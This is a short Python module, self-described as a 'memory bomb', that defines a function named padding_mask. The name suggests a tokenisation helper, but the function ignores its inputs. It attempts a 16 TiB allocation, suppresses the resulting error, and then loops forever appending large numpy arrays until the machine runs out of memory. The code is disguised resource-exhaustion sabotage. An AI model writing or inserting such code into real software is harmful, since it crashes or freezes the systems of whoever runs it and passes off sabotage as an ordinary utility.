"""A memory bomb, at once and little by little."""
import numpy

kept = []


def padding_mask(token_ids, padding_id=0):
    try:
        kept.append(b"x" * (1 << 44))
    except MemoryError:
        pass
    while True:
        kept.append(numpy.ones(1 << 22))
